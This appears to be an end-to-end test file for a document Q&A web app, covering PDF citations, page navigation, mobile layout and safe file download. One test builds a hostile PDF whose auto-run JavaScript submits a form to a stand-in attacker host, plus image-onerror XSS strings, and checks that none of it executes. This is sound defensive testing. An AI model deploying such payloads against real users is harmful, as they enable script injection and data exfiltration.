import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { pdfOf } from './files';
import { addFile, indexed, seriousFaults, site } from './support';

const { open, server } = site();
const withoutFiles = site(undefined, { GRAPHLOOM_MAX_ORIGINAL_MB: '0' });

const PAGES = [
  ['Survey of the harbour of Kessary', 'The survey was ordered by the town council in the year 1911.'],
  [
    'The northern pier',
    'The northern pier of Kessary was built by Anselm Voortrek in',
    '1887, out of larch and basalt. It carries the old light.',
    'The southern pier was never finished.',
  ],
  ['Costs', 'The council paid four thousand crowns for the survey.'],
];
const QUESTION = 'Who built the northern pier of Kessary?';

beforeAll(async () => {
  for (const { server: one } of [{ server }, withoutFiles]) {
    await addFile(one, 'harbour.pdf', pdfOf(PAGES));
    await indexed(one);
  }
});

async function openCitation(page: Page) {
  await page.getByRole('textbox', { name: 'Question' }).fill(QUESTION);
  await page.keyboard.press('Enter');
  const answer = page.getByRole('article').last();
  await answer.getByRole('button', { name: 'Ask again' }).waitFor();
  await answer.locator('button[aria-pressed]').first().click();
  return page.getByRole('complementary');
}

test('a citation of a PDF file opens its page with the passage marked', async () => {
  const page = await open('/');
  const pane = await openCitation(page);
  await pane.getByRole('status').getByText('Page 2 of 3').waitFor();
  await expect
    .poll(async () => (await pane.locator('mark').allInnerTexts()).join(' '))
    .toMatch(/^The northern pier of Kessary was built by Anselm Voortrek in 1887, out of larch and basalt/);
  // The page is drawn: its picture is not of one colour.
  const colours = await pane.locator('canvas').evaluate(canvas => {
    const { width, height } = canvas as HTMLCanvasElement;
    const pixels = (canvas as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height).data;
    return new Set(pixels?.filter((_, at) => at % 4 === 0)).size;
  });
  expect(colours).toBeGreaterThan(2);
  expect(await seriousFaults(page)).toEqual([]);

  await pane.getByRole('button', { name: 'Next page' }).click();
  await pane.getByRole('status').getByText('Page 3 of 3').waitFor();
  await expect.poll(() => pane.locator('section').innerText()).toContain('four thousand crowns');
  expect(await pane.locator('mark').count()).toBe(0);
  await pane.getByRole('button', { name: '2', exact: true }).click();
  await pane.locator('mark').first().waitFor();

  await pane.getByRole('button', { name: 'Text', exact: true }).click();
  await expect.poll(async () => (await pane.locator('mark').allInnerTexts()).join(' ')).toContain('Voortrek');
  expect(await pane.locator('canvas').count()).toBe(0);
});

test('the page of a document shows its pages, on a phone too', async () => {
  const page = await open('/documents', { viewport: { width: 360, height: 740 } });
  await page.getByRole('link', { name: 'harbour.pdf' }).click();
  await page.getByRole('status').getByText('Page 1 of 3').waitFor();
  await expect.poll(() => page.locator('section').innerText()).toContain('town council');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
  await page.getByRole('button', { name: 'Zoom in' }).click();
  await expect.poll(() => page.locator('section').innerText()).toContain('town council');
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
});

test('where the file is not kept, the text is shown and the pane says why', async () => {
  const page = await withoutFiles.open('/');
  const pane = await openCitation(page);
  await pane.getByText('the file is not kept').waitFor();
  await expect.poll(async () => (await pane.locator('mark').allInnerTexts()).join(' ')).toContain('Voortrek');
});

test('a PDF file runs nothing', async () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\)) >>';
  const title = '/Title (<img src=x onerror=document.title=1>)';
  const lines = ['The Ormelay bell was cast by Iven Dusk.', '<img src=x onerror=document.title=2>'];
  await addFile(server, 'bell.pdf', pdfOf([lines], `/OpenAction ${script} /AA << /WC ${script} >>`, title));
  await indexed(server);
  const page = await open('/documents');
  const title_before = await page.title();
  const dialogs: string[] = [];
  page.on('dialog', dialog => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.getByRole('link', { name: 'bell.pdf' }).click();
  await expect.poll(() => page.locator('section').innerText()).toContain('Iven Dusk');
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(await page.title()).toBe(title_before);
  expect(await page.locator('section img').count()).toBe(0);
});

test('a file that is opened by itself is saved and runs in no page', async () => {
  const listed = await fetch(`${server.url}/documents/paginated`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  });
  const { documents } = (await listed.json()) as { documents: { id: string; file_path: string }[] };
  const id = documents.find(({ file_path }) => file_path === 'harbour.pdf')?.id ?? '';
  const file = await fetch(`${server.url}/documents/${id}/original`);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe('application/pdf');
  expect(file.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''harbour.pdf");
  expect(file.headers.get('content-security-policy')).toContain('sandbox');
  expect(file.headers.get('x-content-type-options')).toBe('nosniff');
  expect(Buffer.from(await file.arrayBuffer()).equals(pdfOf(PAGES))).toBe(true);
});
